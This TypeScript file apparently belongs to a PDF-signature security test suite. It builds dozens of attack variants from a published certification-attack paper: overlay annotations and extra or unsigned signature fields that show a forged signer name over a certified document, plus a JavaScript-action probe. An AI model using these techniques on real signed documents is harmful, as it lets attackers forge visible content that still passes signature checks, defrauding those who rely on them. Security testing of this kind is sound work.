import { OBJECTS, original } from './attack-tools.js';
import type { AttackTools, AttackVariant } from './attack-tools.js';
import { appearance } from './pdf-document.js';
import { appendRevision } from './pdf-file.js';
import { entriesOf, signPdf, withWidget } from './pdf-signature.js';
import type { SignatureOptions, SignedPdf } from './pdf-signature.js';
import { addAnnotation } from './pdf-updates.js';
import type { AnnotationOptions } from './pdf-updates.js';
import { reference, text } from './pdf-value.js';
import type { PdfEntries, PdfValue } from './pdf-value.js';

/** Over the line with the name. */
const OVER_NAME = [72, 655, 400, 680] as const;
const FORGED_NAME = '1 g 0 0 328 25 re f 0 g BT /F1 14 Tf 0 5 Td (Eve Example) Tj ET';
const QUAD_POINTS: PdfEntries = { QuadPoints: [72, 680, 400, 680, 72, 655, 400, 655] };
const javascript: PdfEntries = { S: '/JavaScript', JS: text('app.alert(1)') };

const annotated = (options: Omit<AnnotationOptions, 'rect'>) => async (tools: AttackTools): Promise<Uint8Array<ArrayBuffer>> => addAnnotation(await original(tools, { docMdp: 3 }), { rect: OVER_NAME, ...options }).bytes;
const drawn = (subtype: string, entries: PdfEntries = {}) => annotated({ subtype, operators: FORGED_NAME, entries });
const evil = (variant: string, make: AttackVariant['make']): AttackVariant => ({ name: 'evil-annotation', variant, make });
const line: PdfEntries = { L: [72, 667, 400, 667], C: [1, 1, 1], BS: { W: 25 } };

/** "Breaking the Specification: PDF Certification" (S&P 2021) section 5.1: what P 3 lets anybody add can hide and show anything. */
export const evilAnnotations: readonly AttackVariant[] = [
  evil('free-text', drawn('FreeText', { Contents: text('Eve Example'), DA: text('/Helv 14 Tf 0 g') })),
  evil('free-text-without-appearance', annotated({ subtype: 'FreeText', entries: { Contents: text('Eve Example'), DA: text('/Helv 14 Tf 0 g'), C: [1, 1, 1] } })),
  evil('stamp', drawn('Stamp', { Name: '/Approved' })),
  evil('redact', drawn('Redact', { ...QUAD_POINTS, IC: [1, 1, 1], OverlayText: text('Eve Example') })),
  evil('redact-without-appearance', annotated({ subtype: 'Redact', entries: { ...QUAD_POINTS, IC: [1, 1, 1], OverlayText: text('Eve Example') } })),
  evil('caret', drawn('Caret')),
  evil('circle', drawn('Circle', { IC: [1, 1, 1] })),
  evil('square', drawn('Square', { IC: [1, 1, 1] })),
  evil('square-without-appearance', annotated({ subtype: 'Square', entries: { IC: [1, 1, 1], C: [1, 1, 1] } })),
  evil('line', drawn('Line', line)),
  evil('line-without-appearance', annotated({ subtype: 'Line', entries: line })),
  evil('polygon', drawn('Polygon', { Vertices: [72, 655, 400, 655, 400, 680], IC: [1, 1, 1] })),
  evil('polyline', drawn('PolyLine', { Vertices: [72, 655, 400, 655, 400, 680] })),
  evil('ink', drawn('Ink', { InkList: [[72, 667, 400, 667]] })),
  evil('highlight', drawn('Highlight', QUAD_POINTS)),
  evil('underline', drawn('Underline', QUAD_POINTS)),
  evil('squiggly', drawn('Squiggly', QUAD_POINTS)),
  evil('strike-out', drawn('StrikeOut', QUAD_POINTS)),
  evil('strike-out-without-appearance', annotated({ subtype: 'StrikeOut', entries: { ...QUAD_POINTS, C: [1, 0, 0] } })),
  evil('text-with-appearance', drawn('Text', { Contents: text('note') })),
  evil('popup-with-appearance', drawn('Popup')),
  evil('link', drawn('Link', { A: { S: '/URI', URI: text('https://example.org/') } })),
  evil('link-with-action', annotated({ subtype: 'Link', entries: { A: javascript } })),
  evil('text-with-action', annotated({ subtype: 'Text', entries: { Contents: text('note'), AA: { PO: javascript } } })),
  evil('file-attachment', annotated({
    subtype: 'FileAttachment', operators: FORGED_NAME, entries: { Name: '/Paperclip', FS: { Type: '/Filespec', F: text('award.json'), EF: { F: '999 0 R' } } },
  })),
  evil('watermark', drawn('Watermark')),
  evil('screen', drawn('Screen')),
  evil('printer-mark', drawn('PrinterMark')),
  evil('projection', drawn('Projection')),
  evil('unspecified-subtype', drawn('Unknown')),
  evil('without-subtype', async (tools) => {
    const signed = await original(tools, { docMdp: 3 });
    const set = new Map<number, PdfValue>([[signed.size + 1, appearance(328, 25, '', FORGED_NAME)]]);
    set.set(signed.size, { Rect: OVER_NAME, F: 4, AP: { N: reference(signed.size + 1) } });
    withWidget(signed, set, signed.size, false);
    return appendRevision(signed, { set }).bytes;
  }),
];

const sneaky = (variant: string, make: AttackVariant['make']): AttackVariant => ({ name: 'sneaky-signature', variant, make });
const overName: SignatureOptions = { field: 'Signature2', name: 'Mallory', visible: { rect: OVER_NAME, operators: FORGED_NAME } };
const countersigned = (permission: 1 | 2 | 3, options: SignatureOptions = overName) => async (tools: AttackTools): Promise<Uint8Array<ArrayBuffer>> =>
  (await signPdf(await original(tools, { docMdp: permission }), options, tools.attackerCms ?? tools.makeCms)).bytes;

/** A field without a signature: its appearance shows all the same. */
const unsigned = (permission: 1 | 2 | 3, widget: PdfEntries, where: { annotated?: boolean; inForm?: boolean } = {}) => async (tools: AttackTools): Promise<Uint8Array<ArrayBuffer>> => {
  const signed: SignedPdf = await original(tools, { docMdp: permission });
  const set = new Map<number, PdfValue>([[signed.size + 1, appearance(328, 25, '', FORGED_NAME)]]);
  set.set(signed.size, { Type: '/Annot', Subtype: '/Widget', FT: '/Sig', T: text('Signature2'), F: 4, Rect: OVER_NAME, P: reference(OBJECTS.page), AP: { N: reference(signed.size + 1) }, ...widget });
  withWidget(signed, set, signed.size, where.inForm ?? true);
  return appendRevision(signed, { set }).bytes;
};

/** The invisible field of the first signature gets an appearance, and room. */
const shown = async (tools: AttackTools): Promise<Uint8Array<ArrayBuffer>> => {
  const signed = await original(tools, { docMdp: 2 });
  const { field } = signed.signature;
  const set = new Map<number, PdfValue>([[signed.size, appearance(328, 25, '', FORGED_NAME)], [field, { ...entriesOf(signed, field), Rect: OVER_NAME, AP: { N: reference(signed.size) } }]]);
  return appendRevision(signed, { set }).bytes;
};

/** Section 5.2: what P 1 and P 2 let others add, a signature, shows anything anywhere. */
export const sneakySignatures: readonly AttackVariant[] = [
  sneaky('signature-over-content', countersigned(2)),
  sneaky('signature-over-content-no-changes-allowed', countersigned(1)),
  sneaky('signature-over-content-annotations-allowed', countersigned(3)),
  sneaky('signature-over-page', countersigned(2, { ...overName, visible: { rect: [0, 0, 595, 842], operators: '1 g 0 0 595 842 re f' } })),
  sneaky('document-timestamp-over-content', countersigned(2, { ...overName, type: 'document-timestamp' })),
  sneaky('unsigned-field', unsigned(2, {})),
  sneaky('unsigned-field-no-changes-allowed', unsigned(1, {})),
  sneaky('unsigned-field-outside-form', unsigned(2, {}, { inForm: false })),
  sneaky('unsigned-field-unspecified-subtype', unsigned(2, { Subtype: '/Unknown' })),
  sneaky('unsigned-field-print-only', unsigned(2, { F: 36 })),
  sneaky('first-signature-shown', shown),
];
